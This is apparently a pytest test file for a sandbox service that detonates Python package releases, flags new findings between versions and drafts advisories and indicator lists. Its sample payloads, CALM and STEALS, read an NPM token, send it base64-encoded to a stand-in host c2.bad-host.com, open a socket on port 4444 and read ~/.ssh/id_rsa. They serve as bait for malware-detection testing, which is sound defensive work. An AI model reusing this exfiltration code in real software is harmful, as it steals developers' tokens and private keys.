"""A service that has seen the release before: which findings are new in the next one, and drafts of
what may be reported of it. On the real thing, in two runs that all tests here share.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from conftest import PROGRAM, Service, Snakehook, make_state, open_folder, serving, variables
from standins import Discord, Index

from jail.watch.known import acts_for_later, compare_findings, known_report

# Each run has other bait, another host, another address for the name, and other temporary names.
CALM = """
import os, socket, subprocess, tempfile, urllib.request
from base64 import b64encode
token = os.environ["NPM_TOKEN"]
with tempfile.NamedTemporaryFile(delete=False) as file:
    file.write(b"#!/bin/sh\\n")
subprocess.run(["/bin/sh", file.name, token, socket.gethostname(), str(os.getpid())])
try:
    urllib.request.urlopen("https://c2.bad-host.com/beacon", b64encode(token.encode()), 3)
    address = socket.gethostbyname("c2.bad-host.com")
    socket.create_connection((address, 4444), 3).send(os.urandom(9))
except OSError:
    pass
"""
STEALS = CALM + 'open(os.path.expanduser("~/.ssh/id_rsa")).read()\n'
RELEASES = {"1.0": CALM, "1.1": STEALS}


@dataclass
class Seen:
    """Two releases that were triaged one after the other: their reports, by the version."""

    snakehook: Snakehook
    reports: dict[str, dict[str, Any]]
    messages: list[dict[str, Any]]


@pytest.fixture(scope="module")
def seen(
    jail: None, jail_python_cache: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Seen]:
    log = tmp_path_factory.mktemp("two") / "service.log"
    with Index() as index, Discord() as discord, open_folder("home") as home:
        index.add_wheel("pip", "1.0", {"pip_stand_in.py": ""})
        for version, source in RELEASES.items():
            index.add_wheel("grows", version, {"grows/__init__.py": source})
        program = Snakehook(PROGRAM, variables(make_state(home, jail_python_cache), index))
        reports = {}
        with serving(program, log, DISCORD_WEBHOOK_URL=discord.url) as service:
            for version in RELEASES:
                reports[version] = detonated(service, version)
            messages = [message.payload for message in discord.messages]
            yield Seen(program, reports, messages)


def detonated(service: Service, version: str) -> dict[str, Any]:
    run_id = service.accept("grows", version=version, mode="detonate")
    return service.finished(run_id, 90)


def test_without_a_report_of_the_earlier_release_nothing_is_said(seen: Seen) -> None:
    changes = seen.reports["1.0"]["changes"]
    assert changes["reason"] == "the index has no earlier release with a wheel"
    assert "reported" not in changes


def test_the_findings_that_are_new_are_told(seen: Seen) -> None:
    changes = seen.reports["1.1"]["changes"]
    assert changes["reported"] == {
        "run_id": seen.reports["1.0"]["run_id"],
        "outcome": "ok",
        "verdict": "high",
        "is_whole": True,
    }
    (new,) = changes["new_findings"]
    assert (new["severity"], new["title"]) == ("high", "reads or touches /home/dev/.ssh/id_rsa")
    assert changes["new_finding_counts"] == {"high": 1, "medium": 0, "info": 0}
    (embed,) = seen.messages[1]["embeds"]
    assert "1 new finding since 1.0; new since 1.0: files: 1 changed" in embed["description"]


def test_the_same_acts_with_other_bait_are_not_new(seen: Seen) -> None:
    calm, steals = seen.reports["1.0"], seen.reports["1.1"]
    told = {key: steals[key] for key in ("run_id", "outcome", "verdict")}
    told |= {"version": "1.1", "acts": acts_for_later(steals["findings"]).decode()}
    known = known_report(json.dumps([told]).encode(), "1.1")
    made_up = frozenset(
        item["target"].partition(":")[0] for item in calm["network"] if item["name"] is not None
    )
    found = compare_findings(calm["findings"], known, "1.0", made_up)
    assert (found["new_findings"], known and known.is_whole) == ([], True)
    # They do not say the same: what is compared is not what was drawn.
    titles = [{item["title"] for item in report["findings"]} for report in (calm, steals)]
    assert titles[0] - titles[1]
    acts = {item["rule"] for item in calm["findings"]}
    assert {"secret.sent", "secret.read", "process.spawn", "network.attempt"} <= acts


# `snakehook report RUN_ID`, beside the service that has the store open.


def draft(seen: Seen, *options: str, version: str = "1.1") -> str:
    done = seen.snakehook.run("report", seen.reports[version]["run_id"], *options)
    assert (done.returncode, done.stderr) == (0, ""), done
    return done.stdout


def made_up(seen: Seen) -> set[str]:
    """What only the decoy internet knows: the address that it gave to the name."""
    network = seen.reports["1.1"]["network"]
    found = {row["target"].rpartition(":")[0] for row in network if row["kind"] == "tcp"}
    assert found
    return found


def test_a_run_by_http_becomes_a_draft(seen: Seen) -> None:
    text = draft(seen)
    (file,) = [row for row in seen.reports["1.1"]["downloads"] if row["file"].startswith("grows-1")]
    assert f"File:    {file['file']}, {file['bytes']} bytes, sha256 {file['sha256']}" in text
    assert "Version: 1.1" in text and "reads or touches /home/dev/.ssh/id_rsa" in text
    assert "POST https://c2.bad-host.com/beacon" in text and "with the decoys NPM_TOKEN" in text
    assert not [address for address in made_up(seen) if address in text]


def test_a_run_by_http_becomes_an_osv_draft(seen: Seen) -> None:
    advisory = json.loads(draft(seen, "--osv"))
    assert advisory["affected"][0]["versions"] == ["1.1"]
    assert advisory["affected"][0]["package"]["name"] == "grows"
    found = advisory["database_specific"]["iocs"]
    assert found["urls"] == ["https://c2.bad-host.com/beacon"]
    assert found["domains"] == ["c2.bad-host.com"] and found["ip_addresses"] == []
    assert not [address for address in made_up(seen) if address in json.dumps(advisory)]


def test_a_run_by_http_has_indicators(seen: Seen) -> None:
    lines = draft(seen, "--indicators")
    assert "hxxps://c2[.]bad-host[.]com/beacon" in lines and "https://c2" not in lines
    told = json.loads(draft(seen, "--indicators", "--json"))
    assert told["run_id"] == seen.reports["1.1"]["run_id"]
    assert told["indicators"] == seen.reports["1.1"]["indicators"]
    assert {"name", "url", "sha256"} == {item["kind"] for item in told["indicators"]}
